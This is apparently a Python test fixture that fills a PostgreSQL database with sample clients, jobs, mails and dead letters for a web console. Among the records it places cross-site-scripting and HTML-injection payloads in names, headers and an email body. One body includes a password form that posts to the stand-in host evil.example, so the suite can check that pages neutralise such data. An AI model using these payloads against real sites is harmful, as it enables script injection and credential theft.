"""A furnished database: everything that pages show, in every state, and data that means harm.

The rows stand in `furniture/*.sql`, run in the order of the files' names. There `pg_temp.id(name)`
is the id of whatever has that name, the same in every run, and `pg_temp.hostile(n)` is text that
would call `ran(n)`, or ask evil.example for something, wherever it is taken for markup or script.
"""

import base64
import hashlib
from collections.abc import Sequence
from pathlib import Path
from typing import Final
from uuid import UUID

import asyncpg
import msgspec

from tests.notifier import letters

FURNITURE: Final = Path(__file__).with_name("furniture")

HARM: Final = (
    "<img src=x onerror=ran({n})>",
    '"><svg onload=ran({n})>',
    "</script><script>ran({n})</script>",
    "' onfocus=ran({n}) autofocus x='",
    "{{7*7}}{% raw %}<!--{n}",
    '<a href="javascript:ran({n})">x</a>',
    "<img src=//evil.example/{n}.png>\u202e\u2028",
)
"""Each fits in a name of 100 characters."""

TOOLS: Final = f"""
    create function pg_temp.id(name text) returns uuid language sql immutable
    as $$ select md5(name)::uuid $$;
    create function pg_temp.hostile(n int) returns text language sql immutable
    as $$ select replace((array[{", ".join(f"$w${words}$w$" for words in HARM)}])[1 + n % {len(HARM)}],
                         '{{n}}', n::text) $$;
    create function pg_temp.ago(since text) returns timestamptz language sql stable
    as $$ select public.clock() - since::interval $$;
    create function pg_temp.today() returns date language sql stable
    as $$ select (public.clock() at time zone 'Europe/Paris')::date $$;
"""

WRITE: Final = """
    insert into notifier.mail_content (mail_id, recipient, subject, headers, text_body, html_body)
    values ($1, $2, $3, $4, $5, $6)
"""

CAMILLE: Final = {
    "first_name": "Camille", "last_name": "Durand", "email": "camille@agence-du-parc.example",
}  # fmt: skip

HOSTILE_BODY: Final = """<!doctype html><title>x</title><body onload="ran(90)"><h1>Gagnez</h1>
<script>ran(91)</script><img src="https://evil.example/pixel.png" onerror="ran(92)">
<iframe src="https://evil.example/frame"></iframe><link rel=stylesheet href="//evil.example/x.css">
<style>@import "https://evil.example/y.css"; body{background:url(https://evil.example/z.png)}</style>
<form action="https://evil.example/" method="post"><input name="password"><button>OK</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/gone"><a href="javascript:ran(93)">x</a>
<base href="https://evil.example/">"""


def named(name: str) -> UUID:
    """The id of what has this name in the furniture."""
    return UUID(hashlib.md5(name.encode(), usedforsecurity=False).hexdigest())


def hostile(number: int) -> str:
    """Text that calls `ran(number)` where a page believes it."""
    return HARM[number % len(HARM)].replace("{n}", str(number))


def group_of(topic: str, cause: str) -> str:
    """The group in which the console has dead letters of the furniture."""
    told_type = base64.b64encode(b"trackimmo.client.process.v1").decode()
    parts = f"{topic}\x1f{told_type}\x1f{cause}"
    return hashlib.md5(parts.encode(), usedforsecurity=False).hexdigest()


class World(msgspec.Struct, frozen=True):
    """The ids of what pages are asked for; of several the first is an ordinary one."""

    clients: Sequence[UUID] = tuple(
        map(named, ("client", "client hostile", "client long", "client pending", "client new"))
    )
    jobs: Sequence[UUID] = tuple(
        named(f"job {state}")
        for state in ("done", "hostile", "running", "waiting", "failed", "retried", "cancelled")
    )
    mails: Sequence[UUID] = tuple(
        map(named, ("mail notification sent", "mail hostile", "mail monthly pending",
                    "mail welcome unknown", "mail test failed"))
    )  # fmt: skip
    dead_letters: Sequence[tuple[str, UUID]] = tuple(
        (service, named(f"held {service} {number}"))
        for service, number in (("scraper", 3), ("notifier", 1), ("gateway", 2), ("assigner", 13))
    )
    dead_letter_groups: Sequence[tuple[str, str]] = tuple(
        (
            service,
            group_of(
                "client.process", "ValidationError: Expected `uuid`, got `int` - at `$.job_id`"
            ),
        )
        for service in ("scraper", "notifier")
    )
    insee_codes: Sequence[str] = ("01053", "42147", "64260", "67482")
    imports: Sequence[UUID] = tuple(map(named, ("import running", "import failed", "import done")))
    api_keys: Sequence[UUID] = tuple(map(named, ("key crm", "key hostile", "key revoked")))
    address_ids: Sequence[UUID] = tuple(map(named, ("home 7", "home 1")))


async def furnish(connection: asyncpg.Connection) -> World:
    """Fill an empty, migrated database; `connection` is a superuser's."""
    async with connection.transaction():
        await connection.execute(TOOLS)
        for rows in sorted(FURNITURE.glob("*.sql")):
            await connection.execute(rows.read_text())
        await _write_mails(connection)
    return World()


async def _write_mails(connection: asyncpg.Connection) -> None:
    """Bodies as the notifier writes them, and one that wants to harm whoever looks."""
    written = [
        (named(f"mail {kind} {state}"), each.recipient, each.subject, dict(each.headers),
         each.text_body, each.html_body)
        for kind in ("notification", "monthly", "welcome", "insufficient", "error")
        for each in [letters.letter(kind, "fr", **CAMILLE)]
        for state in ("sent", "unknown", "failed", "handing_off", "suppressed")
    ]  # fmt: skip
    harm = {"X-Harm": hostile(94), "Subject": hostile(95)}
    words = (hostile(96), hostile(97), harm, hostile(98), HOSTILE_BODY)
    await connection.executemany(WRITE, [*written, (named("mail hostile"), *words)])
